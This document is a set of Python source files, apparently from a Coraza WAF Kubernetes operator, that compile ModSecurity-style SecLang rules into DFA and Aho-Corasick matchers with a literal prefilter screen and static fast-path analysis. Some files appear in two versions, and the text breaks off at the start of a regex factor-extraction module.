    """Compile SecLang text into the device plan. Raises SecLangError on
    invalid input (the admission gate)."""
    ast = parse(text)
    cs = CompiledRuleSet(ast=ast, text=text)
    # effective transform chains must mirror the engine exactly, including
    # SecDefaultAction inheritance for rules without any t: action
    from ..engine.reference import _parse_config
    default_actions = _parse_config(ast).default_actions
    n_exact = n_prefilter = n_host = 0
    for rule in ast.rules:
        if rule.is_sec_action:
            cs.always_candidates.append(rule.id)
            continue
        links = [rule] + rule.chain_rules
        gates: list[int] = []
        n_exact_links = 0
        for li, link in enumerate(links):
            op = link.operator
            if op is None or op.negated:
                continue
            if link.action("multimatch") is not None:
                # multiMatch applies the operator at EVERY transform stage;
                # the device lane scans only the fully-transformed value, so
                # its bit could be False where the host matches an earlier
                # stage — not a safe gate. Host-evaluate these rules.
                continue
            if not _device_targets_ok(tuple(link.variables)):
                continue
            if link.has_transforms:
                tnames = tuple(t.name for t in link.transformations)
            else:
                da = default_actions.get(rule.phase)
                tnames = tuple(da.transformations) if da else ()
            if any(t not in DEVICE_TRANSFORMS for t in tnames):
                continue
            built = _build_matcher_dfa(link, op.name, op.argument)
            if built is None:
                continue
            dfa, exact, factors = built
            dfa = _eos_reset(dfa)
            m = Matcher(
                mid=len(cs.matchers), rule_id=rule.id, link_index=li,
                dfa=dfa, transforms=tnames,
                variables=tuple(link.variables), exact=exact,
                operator_name=op.name,
                factors=tuple(factors) if factors else None)
            cs.matchers.append(m)
            gates.append(m.mid)
            if exact:
                n_exact += 1
                n_exact_links += 1
            else:
                n_prefilter += 1
        if gates:
            cs.gate[rule.id] = gates
            if n_exact_links == len(links):
                cs.fully_exact.add(rule.id)
        else:
            cs.always_candidates.append(rule.id)
            n_host += 1
    cs.stats = {
        "rules": len(ast.rules),
        "matchers": len(cs.matchers),
        "exact_matchers": n_exact,
        "prefilter_matchers": n_prefilter,
        "host_only_rules": len(cs.always_candidates),
        "gated_rules": len(cs.gate),
        "total_states": int(sum(m.n_states for m in cs.matchers)),
    }
    return cs
