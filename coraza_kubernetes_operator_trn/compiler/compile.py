"""SecLang AST -> CompiledRuleSet: the device execution plan.

Architecture (trn-first hybrid):

- Every device-compilable rule predicate becomes a **Matcher**: one
  automaton (regex DFA, @pm Aho-Corasick, or literal-factor AC prefilter)
  plus its transformation chain and target spec.
- The device scans one lane per (request, matcher): target values are
  streamed as ``BOS v1 EOS BOS v2 EOS ...`` symbol sequences, so per-value
  ``^``/``$`` anchoring survives concatenation, and the table's EOS-reset
  (non-accepting EOS transitions land on the start state) prevents
  partial-match state leaking between values. Absorbing accept makes "any
  value matched" a single end-state check.
- ``exact=True`` matchers (DFA semantics == operator semantics) let a clean
  request skip the rule entirely — the common case and the 50x path.
  ``exact=False`` matchers (literal prefilters) only gate host confirmation.
- Everything else (negated ops, numeric ops, TX targets, macro arguments,
  unsupported transforms) stays host-evaluated; those rules are
  "always-candidates". The host engine is the exact CPU engine, so verdicts
  are bit-compatible by construction.

This replaces the reference's validate-then-concatenate reconcile step
(reference: internal/controller/ruleset_controller.go:108-182) with
validate-then-compile; the compiled artifact is what the cache distributes.
"""

from __future__ import annotations

from dataclasses import dataclass, field

import numpy as np

from ..seclang import parse
from ..seclang.ast import Rule, RuleSetAST, Variable
from .aho import build_aho_corasick
from .dfa import DFA, compile_regex_to_dfa, minimize_dfa
from .errors import CompileError
from .literal import required_factors
from .nfa import EOS
from .rx import UnsupportedRegex, parse_regex
from .screen import matcher_factors

# Transformations with exact jax implementations (ops/transforms_jax.py).
# A matcher whose chain uses anything else falls back to the host. Every
# name here is differentially tested against the host transform
# (tests/test_ops_jax.py::test_transform_differential parametrizes over
# the full JAX_TRANSFORMS registry). Expanding transforms (utf8tounicode)
# are width-budgeted by the runtime via transforms_jax.chain_expansion.
DEVICE_TRANSFORMS = {
    "none", "lowercase", "uppercase", "urldecode", "urldecodeuni",
    "htmlentitydecode", "removenulls", "replacenulls", "removewhitespace",
    "compresswhitespace", "trim", "trimleft", "trimright", "cmdline",
    "jsdecode", "cssdecode", "base64decode", "removecomments",
    "normalizepath", "normalisepath", "normalizepathwin",
    "normalisepathwin", "utf8tounicode",
}


@dataclass
class Matcher:
    """One device automaton bound to a rule predicate."""

    mid: int
    rule_id: int
    link_index: int  # 0 = chain head, 1.. = chain links
    dfa: DFA
    transforms: tuple[str, ...]
    variables: tuple[Variable, ...]
    exact: bool  # True: DFA result == operator result ("some value matches")
    operator_name: str = ""
    # screening factor set (OR semantics): the matcher can only fire if one
    # of these literals appears post-transform. None = unscreenable, its
    # lane always dispatches. Feeds the per-group union screen
    # (compiler/screen.py).
    factors: tuple[str, ...] | None = None

    @property
    def n_states(self) -> int:
        return self.dfa.n_states


@dataclass
class CompiledRuleSet:
    """The device execution plan + host program for one RuleSet."""

    ast: RuleSetAST
    text: str
    matchers: list[Matcher] = field(default_factory=list)
    # rule_id -> matcher ids ANDed to gate candidacy. Every matcher has zero
    # false negatives for its predicate, so a False bit proves the rule
    # cannot match and the host skips it entirely (the fast path).
    gate: dict[int, list[int]] = field(default_factory=dict)
    # rules with full exact coverage of every chain link (device True bits
    # imply the rule's operators all match — usable for device-only stats)
    fully_exact: set[int] = field(default_factory=set)
    # rules that must always be host-evaluated
    always_candidates: list[int] = field(default_factory=list)
    # rules the static partial evaluator resolved (compiler/staticfold.py):
    # proven never-fire (paranoia gates below the configured PL,
    # statically-skipped regions, config guards whose defaults are already
    # set) plus inert always-fire control rules whose skip effects the
    # fold already materialized. No matchers are built and the host walk
    # gate-skips them.
    static_resolved: frozenset[int] = frozenset()
    # True when the device-only fast path is sound for request-only
    # traffic even with host-only rules present: under the
    # all-gates-False AND all-residuals-False assumption every remaining
    # always-candidate either folds to never-fire (anomaly thresholds
    # over statically-zero scores) or cannot change the allow verdict.
    fast_allow_safe: bool = False
    # request-phase always-candidates whose predicate the runtime must
    # check directly (chain-head only, statically-expanded args) before
    # taking the fast path; any True -> fall back to the full host walk
    residual_request: tuple[int, ...] = ()
    # response-phase (3/4) residuals: a response-bearing item can only
    # fast-allow when this is empty
    residual_response: tuple[int, ...] = ()
    # always-candidates that blocked fast_allow_safe (debugging/stats)
    fast_allow_blockers: tuple[int, ...] = ()
    # residual rule id -> chain-head operator argument with config macros
    # statically substituted (runtime evaluates the clone, not the raw
    # rule, because setup setvars have not run on a fast-path tx)
    residual_args: dict[int, str] = field(default_factory=dict)
    # rule id -> per-link reasons why a link did NOT get a device matcher
    # ("link N: <code>: detail"). A rule whose EVERY link has a reason here
    # is an always-candidate; partially-listed rules are gated by their
    # remaining links. Feeds the analyzer's device-compilability
    # classification (analysis/analyzer.py).
    host_reasons: dict[int, list[str]] = field(default_factory=dict)
    stats: dict = field(default_factory=dict)

    @property
    def n_matchers(self) -> int:
        return len(self.matchers)

    def candidate_rule_ids(self, bits: "np.ndarray") -> list[int]:
        """Host-side: matcher bit vector [n_matchers] -> candidate rules."""
        out = []
        for rid, mids in self.gate.items():
            if all(bits[m] for m in mids):
                out.append(rid)
        out.extend(self.always_candidates)
        return out


def _eos_reset(dfa: DFA) -> DFA:
    """Post-process: non-accepting EOS transitions return to the start
    state so multi-value streams reset between values."""
    table = dfa.table.copy()
    eos_cls = int(dfa.classes[EOS])
    col = table[:, eos_cls]
    if dfa.accept >= 0:
        reset = np.where(col == dfa.accept, dfa.accept, dfa.start)
    else:
        reset = np.full_like(col, dfa.start)
    # note: BOS may share a class with EOS (identity column in AC tables);
    # splitting the class keeps BOS behavior intact.
    from .nfa import BOS
    bos_cls = int(dfa.classes[BOS])
    classes = dfa.classes.copy()
    if bos_cls == eos_cls:
        new_cls = table.shape[1]
        classes[EOS] = new_cls
        table = np.concatenate([table, reset[:, None]], axis=1)
    else:
        table[:, eos_cls] = reset
    return DFA(table=table, classes=classes, start=dfa.start,
               accept=dfa.accept, pattern=dfa.pattern)


def _host_target_reason(variables: tuple[Variable, ...]) -> str | None:
    """Why the packer cannot materialize these targets as byte streams
    (None = all fine). Counts and TX are host-domain; everything
    string-valued is fine."""
    for v in variables:
        if v.count:
            return f"count-target: &{v.collection} is host-domain"
        if v.collection in ("TX", "MATCHED_VARS", "MATCHED_VARS_NAMES",
                            "RULE", "DURATION", "HIGHEST_SEVERITY",
                            # persistent collections mutate across the
                            # phase walk (setvar) — device snapshots
                            # could gate on stale values
                            "IP", "GLOBAL", "SESSION", "USER", "RESOURCE"):
            return (f"host-only-target: {v.collection} is walk-state "
                    "(mutates during the phase walk)")
    return None


def _device_targets_ok(variables: tuple[Variable, ...]) -> bool:
    return _host_target_reason(variables) is None


def _rx_required_factors(op_arg: str) -> list[str] | None:
    try:
        return required_factors(parse_regex(op_arg))
    except UnsupportedRegex:
        return None


def _build_matcher_dfa(rule: Rule, op_name: str, op_arg: str
                       ) -> tuple[tuple[DFA, bool, list[str] | None] | None,
                                  str | None]:
    """Returns ((dfa, exact, screen_factors), None) on success or
    (None, host-routing reason) when the link is not device-compilable."""
    if "%{" in op_arg:
        # macro arguments are transaction-dependent
        return None, "macro-argument: operator argument expands per-tx"
    rx_factors = _rx_required_factors(op_arg) if op_name == "rx" else None
    factors = matcher_factors(op_name, op_arg, rx_factors)
    try:
        if op_name == "rx":
            try:
                return (compile_regex_to_dfa(op_arg), True, factors), None
            except UnsupportedRegex as exc:
                # prefilter path: required literal factors
                if rx_factors is None:
                    return None, f"unsupported-regex: {exc}"
                return (build_aho_corasick(
                    rx_factors, case_insensitive=True,
                    pattern=f"prefilter<{op_arg[:40]}>"), False,
                    factors), None
        if op_name == "pm":
            phrases = op_arg.split()
            if not phrases:
                return None, "empty-operator-argument: @pm with no phrases"
            return (build_aho_corasick(
                phrases, case_insensitive=True,
                pattern=f"@pm {op_arg[:40]}"), True, factors), None
        if op_name in ("contains", "strmatch"):
            if not op_arg:
                return None, (f"empty-operator-argument: @{op_name} with "
                              "no needle")
            return (build_aho_corasick(
                [op_arg], case_insensitive=False,
                pattern=f"@contains {op_arg[:40]}"), True, factors), None
        if op_name == "streq":
            rx = "^" + _rx_quote(op_arg) + "$"
            return (compile_regex_to_dfa(rx), True, factors), None
        if op_name == "beginswith":
            return (compile_regex_to_dfa("^" + _rx_quote(op_arg)), True,
                    factors), None
        if op_name == "endswith":
            return (compile_regex_to_dfa(_rx_quote(op_arg) + "$"), True,
                    factors), None
    except UnsupportedRegex as exc:
        return None, f"unsupported-regex: {exc}"
    return None, f"unsupported-operator: @{op_name} has no device form"


# collections whose values exist only mid-walk: a fast-path residual
# check cannot range over them (TX setup has not run, no rule matched)
_WALK_STATE_COLLECTIONS = frozenset({
    "TX", "MATCHED_VAR", "MATCHED_VARS", "MATCHED_VARS_NAMES", "RULE",
    "DURATION", "HIGHEST_SEVERITY", "IP", "GLOBAL", "SESSION", "USER",
    "RESOURCE", "ENV",
})


def _residual_evaluable(rule: Rule, strict) -> bool:
    """True when the runtime can check this rule's chain-head predicate
    directly at fast-path time: head targets range over request/response
    collections only (walk state would need the phase walk), and macro
    args were statically expanded by the fold. Head-False proves the
    whole chain cannot fire; head-True just aborts the fast path."""
    op = rule.operator
    if op is None:
        return False  # SecAction fires unconditionally
    for v in rule.variables:
        if v.collection in _WALK_STATE_COLLECTIONS:
            return False
    if "%{" in op.argument and (rule.id, 0) not in strict.static_args:
        return False
    return True


def _rx_quote(lit: str) -> str:
    special = set("\\^$.[]|()*+?{}")
    return "".join("\\" + c if c in special else c for c in lit)


def compile_ruleset(text: str) -> CompiledRuleSet:
    """Compile SecLang text into the device plan. Raises SecLangError on
    invalid input (the admission gate)."""
    ast = parse(text)
    cs = CompiledRuleSet(ast=ast, text=text)
    # effective transform chains must mirror the engine exactly, including
    # SecDefaultAction inheritance for rules without any t: action
    from ..engine.reference import _parse_config
    from .staticfold import fold_static
    default_actions = _parse_config(ast).default_actions
    # compile-time partial evaluation: the static control plane (paranoia
    # gates, config-default guards, statically-skipped regions) is resolved
    # once here instead of per request on the host
    strict = fold_static(ast, default_actions)
    cs.static_resolved = frozenset(strict.never_fire | strict.inert_noop)
    n_exact = n_prefilter = n_host = 0
    for rule in ast.rules:
        if rule.id in cs.static_resolved:
            continue  # proven never-fire/no-op: no matchers, no host walk
        if rule.is_sec_action:
            cs.always_candidates.append(rule.id)
            cs.host_reasons.setdefault(rule.id, []).append(
                "link 0: sec-action: unconditional (no operator to gate)")
            continue
        links = [rule] + rule.chain_rules
        gates: list[int] = []
        n_exact_links = 0

        def _reason(li: int, why: str, rid: int = rule.id) -> None:
            cs.host_reasons.setdefault(rid, []).append(f"link {li}: {why}")

        for li, link in enumerate(links):
            op = link.operator
            if op is None:
                _reason(li, "no-operator: link has no operator expression")
                continue
            if op.negated:
                _reason(li, f"negated-operator: !@{op.name} cannot gate "
                            "(a False device bit proves nothing)")
                continue
            if link.action("multimatch") is not None:
                # multiMatch applies the operator at EVERY transform stage;
                # the device lane scans only the fully-transformed value, so
                # its bit could be False where the host matches an earlier
                # stage — not a safe gate. Host-evaluate these rules.
                _reason(li, "multimatch: operator applies at every "
                            "transform stage, device scans only the last")
                continue
            target_reason = _host_target_reason(tuple(link.variables))
            if target_reason is not None:
                _reason(li, target_reason)
                continue
            if link.has_transforms:
                tnames = tuple(t.name for t in link.transformations)
            else:
                da = default_actions.get(rule.phase)
                tnames = tuple(da.transformations) if da else ()
            bad_t = [t for t in tnames if t not in DEVICE_TRANSFORMS]
            if bad_t:
                _reason(li, "unsupported-transform: "
                        + ", ".join(f"t:{t}" for t in bad_t)
                        + " has no device implementation")
                continue
            # macro args over compile-time-constant TX config vars (e.g.
            # "!@within %{tx.allowed_methods}") were resolved by the fold
            op_arg = strict.static_args.get((rule.id, li), op.argument)
            built, host_reason = _build_matcher_dfa(link, op.name, op_arg)
            if built is None:
                _reason(li, host_reason
                        or f"unsupported-operator: @{op.name}")
                continue
            dfa, exact, factors = built
            # minimize AFTER the EOS-reset rewrite: the reset column makes
            # additional states equivalent (everything funnels back to
            # start), and AC tables arrive unminimized. Smaller S and C
            # here shrink the stride-composed pair tables quadratically.
            try:
                dfa = minimize_dfa(_eos_reset(dfa))
            except Exception as exc:  # pragma: no cover - defensive
                raise CompileError(
                    f"DFA post-processing failed: {exc}",
                    rule_id=rule.id, line=link.line) from exc
            m = Matcher(
                mid=len(cs.matchers), rule_id=rule.id, link_index=li,
                dfa=dfa, transforms=tnames,
                variables=tuple(link.variables), exact=exact,
                operator_name=op.name,
                factors=tuple(factors) if factors else None)
            cs.matchers.append(m)
            gates.append(m.mid)
            if exact:
                n_exact += 1
                n_exact_links += 1
            else:
                n_prefilter += 1
        if gates:
            cs.gate[rule.id] = gates
            if n_exact_links == len(links):
                cs.fully_exact.add(rule.id)
        else:
            cs.always_candidates.append(rule.id)
            n_host += 1
    # Gated-clean fixpoint: assuming every device gate reads False (no
    # gated rule fired), which always-candidates could still change the
    # verdict? Each such blocker that is directly evaluable (chain-head
    # predicate over request collections, macro args statically expanded)
    # joins the RESIDUAL set: the runtime checks those few predicates at
    # fast-path time and falls back to the full walk if any is True.
    # Assuming residuals false silences their setvar writes, which can
    # fold further blockers (anomaly thresholds) to never-fire — iterate
    # to a fixpoint. Any non-evaluable blocker disables the fast path.
    by_id = {r.id: r for r in ast.rules}
    residual: set[int] = set()
    blockers: set[int] = set()  # empty rulesets never enter the loop
    safe = True
    for _ in range(len(ast.rules)):
        clean = fold_static(
            ast, default_actions,
            assume_not_fired=set(cs.gate) | cs.static_resolved | residual)
        blockers = ((clean.deny_capable_maybe | clean.deny_capable_always)
                    & set(cs.always_candidates)) - residual
        if not blockers:
            break
        progressed = False
        for rid in blockers:
            if rid in clean.deny_capable_always:
                safe = False  # fires every request and can deny
                continue
            if _residual_evaluable(by_id[rid], strict):
                residual.add(rid)
                progressed = True
            else:
                safe = False
        if not progressed:
            break
    cs.fast_allow_blockers = tuple(sorted(blockers - residual))
    cs.fast_allow_safe = safe and not cs.fast_allow_blockers
    cs.residual_request = tuple(
        sorted(r for r in residual if by_id[r].phase <= 2))
    cs.residual_response = tuple(
        sorted(r for r in residual if by_id[r].phase > 2))
    for rid in residual:
        got = strict.static_args.get((rid, 0))
        if got is not None:
            cs.residual_args[rid] = got
    cs.stats = {
        "rules": len(ast.rules),
        "matchers": len(cs.matchers),
        "exact_matchers": n_exact,
        "prefilter_matchers": n_prefilter,
        "host_only_rules": len(cs.always_candidates),
        "gated_rules": len(cs.gate),
        "static_resolved_rules": len(cs.static_resolved),
        "residual_rules": len(cs.residual_request)
        + len(cs.residual_response),
        "fast_allow_safe": cs.fast_allow_safe,
        "total_states": int(sum(m.n_states for m in cs.matchers)),
    }
    return cs
