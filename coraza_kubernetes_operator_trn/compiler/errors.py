"""Structured compile diagnostics.

``CompileError`` replaces bare asserts / ad-hoc ValueErrors on the
compile path: it carries the offending rule id and source span so the
admission controller and the waf-lint analyzer can report *which rule*
broke instead of surfacing a stack trace. It subclasses ValueError so
pre-existing ``except ValueError`` admission guards keep working.

``UnsupportedRegex`` (compiler/rx.py) deliberately stays a separate
type: it is load-bearing control flow — callers catch it to route a rule
to the exact host fallback, not to reject the ruleset.
"""

from __future__ import annotations


class CompileError(ValueError):
    """A ruleset failed to compile; locates the offending rule.

    Attributes:
        rule_id: SecRule id the failure is attributed to (None if the
            failure is not attributable to a single rule).
        line: 1-based source line of that rule in the SecLang text.
        span: optional (start, end) character span inside the operator
            argument (e.g. a regex position from UnsupportedRegex).
        detail: the underlying failure message, without the location
            prefix.
    """

    def __init__(self, detail: str, rule_id: int | None = None,
                 line: int | None = None,
                 span: "tuple[int, int] | None" = None):
        self.rule_id = rule_id
        self.line = line
        self.span = span
        self.detail = detail
        loc = []
        if rule_id is not None:
            loc.append(f"rule {rule_id}")
        if line is not None:
            loc.append(f"line {line}")
        if span is not None:
            loc.append(f"span {span[0]}..{span[1]}")
        prefix = f"[{', '.join(loc)}] " if loc else ""
        super().__init__(f"{prefix}{detail}")
