"""Union literal screen — the Hyperscan-style prefilter stage, trn-shaped.

One Aho-Corasick automaton per transform-chain group unions EVERY matcher's
required literal factors, with per-state OUTPUT MASKS (bit k = "some factor
of matcher-slot k ends here"). One device lane per (request, group) scans
the union of the group's target values, OR-accumulating masks; slot k unset
proves matcher k cannot match (its factor set has OR semantics —
literal.required_factors), so its dedicated lane is never dispatched.
Clean traffic — the overwhelming majority — then costs ~one lane per group
instead of one per matcher: the core lane-count lever behind the 50x
target.

False positives only (a hit still dispatches the real matcher lane); false
negatives are impossible by construction: every factor is a required
substring (or a required-prefix truncation of one), the AC is
case-insensitive (can only widen), a matcher whose factor set can't be
fully represented is marked unscreenable (factors=None -> always
dispatches), and truncated streams screen everything in.
"""

from __future__ import annotations

from dataclasses import dataclass

import numpy as np

from .aho import build_ac_delta
from .nfa import BOS, EOS, N_SYMBOLS

# Factors are truncated to this many BYTES: any substring of a required
# factor is itself required, so length truncation keeps zero false
# negatives while bounding trie size.
MAX_FACTOR_BYTES = 16
# A slot with more factors than this is rejected by matcher_factors (the
# matcher becomes unscreenable) — dropping factors here instead would
# create false negatives.
MAX_FACTORS_PER_SLOT = 16

# Streams are padded with this symbol (ops/packing.py); the screen classes
# table must cover it explicitly — PAD keeps the current state.
PAD = 258
N_SYMBOLS_PADDED = 259


@dataclass
class Screen:
    """The union-AC tables in device format."""

    table: np.ndarray  # [S, C] int32 next-state
    classes: np.ndarray  # [259] int32 (bytes + BOS/EOS/PAD)
    masks: np.ndarray  # [S, W] int32 — OR-able slot bitmaps
    n_slots: int
    start: int = 0

    @property
    def n_states(self) -> int:
        return int(self.table.shape[0])

    @property
    def n_words(self) -> int:
        return int(self.masks.shape[1])


def build_screen(factor_sets: list[list[str] | None]) -> Screen | None:
    """factor_sets[k] = slot k's factors (OR semantics; None/[] =
    unscreenable, slot excluded — the CALLER must always-dispatch those).
    Returns None when nothing is screenable."""
    pats: list[tuple[bytes, int]] = []
    for slot, factors in enumerate(factor_sets):
        if not factors:
            continue
        assert len(factors) <= MAX_FACTORS_PER_SLOT, (
            "oversize factor sets must be rejected upstream "
            "(matcher_factors), not truncated here")
        for f in factors:
            b = f.encode("latin-1")[:MAX_FACTOR_BYTES]
            b = bytes(c + 32 if 0x41 <= c <= 0x5A else c for c in b)
            if b:
                pats.append((b, slot))
    if not pats:
        return None
    n_slots = len(factor_sets)
    n_words = (n_slots + 31) // 32

    raw, out = build_ac_delta(pats, case_insensitive=True)
    n = raw.shape[0]

    masks = np.zeros((n, n_words), dtype=np.int32)
    for s, slots in enumerate(out):
        for k in slots:
            masks[s, k // 32] |= np.int32(
                np.uint32(1 << (k % 32)).view(np.int32))

    # class compression + marker columns: EOS resets to the root (factors
    # must not span value boundaries), BOS and PAD keep the current state
    # (identity — the state is already root right after a reset)
    classes = np.zeros(N_SYMBOLS_PADDED, dtype=np.int32)
    col_sig: dict[bytes, int] = {}
    cols: list[np.ndarray] = []

    def col_class(col: np.ndarray) -> int:
        key = col.tobytes()
        got = col_sig.get(key)
        if got is None:
            got = col_sig[key] = len(cols)
            cols.append(col)
        return got

    for byte in range(256):
        classes[byte] = col_class(raw[:, byte])
    ident = np.arange(n, dtype=np.int32)
    reset = np.zeros(n, dtype=np.int32)
    classes[BOS] = col_class(ident)
    classes[PAD] = classes[BOS]
    classes[EOS] = col_class(reset)
    table = np.stack(cols, axis=1)
    assert N_SYMBOLS == 258  # stream symbols 0..257 plus PAD
    return Screen(table=table, classes=classes, masks=masks,
                  n_slots=n_slots)


def matcher_factors(op_name: str, op_arg: str,
                    rx_factors: list[str] | None) -> list[str] | None:
    """The screening factor set for one matcher (OR semantics), or None if
    the matcher cannot be screened and must always dispatch.

    ``rx_factors`` is the precomputed required_factors() result for @rx.
    """
    min_len = 3

    def capped(factors: list[str]) -> list[str] | None:
        return factors if len(factors) <= MAX_FACTORS_PER_SLOT else None

    if op_name == "rx":
        return capped(rx_factors) if rx_factors else None
    if op_name == "pm":
        phrases = [p.lower() for p in op_arg.split() if p]
        if not phrases or any(len(p) < min_len for p in phrases):
            # a short phrase can match with no >=3-byte factor visible
            return None
        return capped(phrases)
    if op_name in ("contains", "strmatch", "streq", "beginswith",
                   "endswith"):
        arg = op_arg.lower()
        return [arg] if len(arg) >= min_len else None
    return None
