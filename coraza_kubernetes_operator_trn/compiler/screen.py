"""Union literal screen — the Hyperscan-style prefilter stage, trn-shaped.

One Aho-Corasick automaton per transform-chain group unions EVERY matcher's
required literal factors, with per-state OUTPUT MASKS (bit k = "some factor
of matcher-slot k ends here"). One device lane per (request, group) scans
the union of the group's target values, OR-accumulating masks; slot k unset
proves matcher k cannot match (its factor set has OR semantics —
literal.required_factors), so its dedicated lane is never dispatched.
Clean traffic — the overwhelming majority — then costs ~one lane per group
instead of one per matcher: the core lane-count lever behind the 50x
target.

False positives only (a hit still dispatches the real matcher lane); false
negatives are impossible by construction: every factor is a required
substring (or a required-prefix truncation of one), the AC is
case-insensitive (can only widen), a matcher whose factor set can't be
fully represented is marked unscreenable (factors=None -> always
dispatches), and truncated streams screen everything in.
"""

from __future__ import annotations

from dataclasses import dataclass

import numpy as np

from .aho import build_ac_delta
from .nfa import BOS, EOS, N_SYMBOLS

# Factors are truncated to this many BYTES: any substring of a required
# factor is itself required, so length truncation keeps zero false
# negatives while bounding trie size.
MAX_FACTOR_BYTES = 16
# A slot with more factors than this is rejected by matcher_factors (the
# matcher becomes unscreenable) — dropping factors here instead would
# create false negatives.
MAX_FACTORS_PER_SLOT = 16

# Streams are padded with this symbol (ops/packing.py); the screen classes
# table must cover it explicitly — PAD keeps the current state.
PAD = 258
N_SYMBOLS_PADDED = 259


@dataclass
class Screen:
    """The union-AC tables in device format."""

    table: np.ndarray  # [S, C] int32 next-state
    classes: np.ndarray  # [259] int32 (bytes + BOS/EOS/PAD)
    masks: np.ndarray  # [S, W] int32 — OR-able slot bitmaps
    n_slots: int
    start: int = 0

    @property
    def n_states(self) -> int:
        return int(self.table.shape[0])

    @property
    def n_words(self) -> int:
        return int(self.masks.shape[1])


def build_screen(factor_sets: list[list[str] | None]) -> Screen | None:
    """factor_sets[k] = slot k's factors (OR semantics; None/[] =
    unscreenable, slot excluded — the CALLER must always-dispatch those).
    Returns None when nothing is screenable."""
    pats: list[tuple[bytes, int]] = []
    for slot, factors in enumerate(factor_sets):
        if not factors:
            continue
        assert len(factors) <= MAX_FACTORS_PER_SLOT, (
            "oversize factor sets must be rejected upstream "
            "(matcher_factors), not truncated here")
        for f in factors:
            b = f.encode("latin-1")[:MAX_FACTOR_BYTES]
            b = bytes(c + 32 if 0x41 <= c <= 0x5A else c for c in b)
            if b:
                pats.append((b, slot))
    if not pats:
        return None
    n_slots = len(factor_sets)
    n_words = (n_slots + 31) // 32

    raw, out = build_ac_delta(pats, case_insensitive=True)
    n = raw.shape[0]

    masks = np.zeros((n, n_words), dtype=np.int32)
    for s, slots in enumerate(out):
        for k in slots:
            masks[s, k // 32] |= np.int32(
                np.uint32(1 << (k % 32)).view(np.int32))

    # class compression + marker columns: EOS resets to the root (factors
    # must not span value boundaries), BOS and PAD keep the current state
    # (identity — the state is already root right after a reset)
    classes = np.zeros(N_SYMBOLS_PADDED, dtype=np.int32)
    col_sig: dict[bytes, int] = {}
    cols: list[np.ndarray] = []

    def col_class(col: np.ndarray) -> int:
        key = col.tobytes()
        got = col_sig.get(key)
        if got is None:
            got = col_sig[key] = len(cols)
            cols.append(col)
        return got

    for byte in range(256):
        classes[byte] = col_class(raw[:, byte])
    ident = np.arange(n, dtype=np.int32)
    reset = np.zeros(n, dtype=np.int32)
    classes[BOS] = col_class(ident)
    classes[PAD] = classes[BOS]
    classes[EOS] = col_class(reset)
    table = np.stack(cols, axis=1)
    assert N_SYMBOLS == 258  # stream symbols 0..257 plus PAD
    return Screen(table=table, classes=classes, masks=masks,
                  n_slots=n_slots)


@dataclass
class StridedScreen:
    """Stride-k composition of a Screen (ops/automata_jax strided scans).

    ``masks`` here are PER-STEP contributions: masks[s, p] is the OR of
    the masks of every intermediate state visited while consuming the
    k-symbol block coded by pair-class ``p`` from state ``s`` (including
    the landing state, excluding ``s`` itself — matching the stride-1
    accumulation order where state s's mask was OR-ed on arrival).
    """

    stride: int
    table: np.ndarray  # [S, P] int32 next-state over pair-classes
    levels: tuple[np.ndarray, ...]  # per level [w_l * w_l] int32
    masks: np.ndarray  # [S, P, W] int32 per-step mask contribution
    n_slots: int
    start: int = 0

    @property
    def n_pair_classes(self) -> int:
        return int(self.table.shape[1])

    @property
    def entries(self) -> int:
        lvl = sum(int(lv.size) for lv in self.levels)
        return int(self.table.size) + int(self.masks.size) + lvl


def compose_screen_stride(scr: Screen, stride: int,
                          budget_entries: int | None = None,
                          ) -> StridedScreen | None:
    """Square the screen's transition AND mask-accumulation functions
    ``log2(stride)`` times.

    Unlike the plain lane composition (ops/packing.compose_stride), the
    pair-class merge key must include the mask-contribution column: two
    symbol pairs with identical next-state columns may still light
    different slots mid-step, and merging them would lose screen hits
    (false negatives — forbidden by the screen contract).

    Returns None when stride is not a power of two >= 2 or the composed
    tables exceed ``budget_entries``.
    """
    if stride < 2 or stride & (stride - 1):
        return None
    S, C = scr.table.shape
    W = scr.masks.shape[1]
    t = scr.table.astype(np.int64)
    # m[s, c] = mask contribution of one step from s via class c:
    # the landing state's mask (stride-1 accumulation ORs masks[state]
    # AFTER each transition).
    m = scr.masks[t]  # [S, C, W]
    levels: list[np.ndarray] = []
    width = C
    for _ in range(stride.bit_length() - 1):
        if S * width * width * (1 + W) > (1 << 26):
            return None
        # compose: step via c1 then c2
        mid = t  # [S, width]
        t2 = t[mid]  # t2[s, c1, c2] = t[t[s, c1], c2]
        m2 = m[:, :, None, :] | m[mid][:, :, :, :]  # union along the path
        # merge pair columns whose (next-state, mask) columns BOTH match
        nt = t2.reshape(S, width * width)
        nm = m2.reshape(S, width * width, W)
        key = np.concatenate(
            [nt[:, :, None], nm], axis=2).transpose(1, 0, 2).reshape(
                width * width, S * (1 + W))
        _, first, inv = np.unique(key, axis=0, return_index=True,
                                  return_inverse=True)
        levels.append(inv.astype(np.int32))
        t = nt[:, first]
        m = nm[:, first]
        width = first.size
    if budget_entries is not None:
        total = t.size + m.size + sum(lv.size for lv in levels)
        if total > budget_entries:
            return None
    return StridedScreen(
        stride=stride,
        table=np.ascontiguousarray(t, dtype=np.int32),
        levels=tuple(levels),
        masks=np.ascontiguousarray(m, dtype=np.int32),
        n_slots=scr.n_slots,
        start=scr.start,
    )


def matcher_factors(op_name: str, op_arg: str,
                    rx_factors: list[str] | None) -> list[str] | None:
    """The screening factor set for one matcher (OR semantics), or None if
    the matcher cannot be screened and must always dispatch.

    ``rx_factors`` is the precomputed required_factors() result for @rx.
    """
    min_len = 3

    def capped(factors: list[str]) -> list[str] | None:
        return factors if len(factors) <= MAX_FACTORS_PER_SLOT else None

    if op_name == "rx":
        return capped(rx_factors) if rx_factors else None
    if op_name == "pm":
        phrases = [p.lower() for p in op_arg.split() if p]
        if not phrases or any(len(p) < min_len for p in phrases):
            # a short phrase can match with no >=3-byte factor visible
            return None
        return capped(phrases)
    if op_name in ("contains", "strmatch", "streq", "beginswith",
                   "endswith"):
        arg = op_arg.lower()
        return [arg] if len(arg) >= min_len else None
    return None
