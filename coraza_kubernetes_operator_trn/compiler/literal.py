"""Required-literal factor extraction for prefilter matchers.

For patterns the DFA compiler rejects (state blowup) we can often still
prefilter on device: if the regex *requires* some literal substring, an
Aho-Corasick scan for those literals has zero false negatives, and the host
confirms candidates with the full regex (the Hyperscan decomposition,
re-derived for trn). Returns None when no useful factor set exists
(the rule then becomes an always-candidate for the host).
"""

from __future__ import annotations

from .rx import Alt, Assert, Caret, Concat, Dollar, Dot, Lit, Node, Repeat

MIN_FACTOR_LEN = 3
MAX_FACTORS = 64


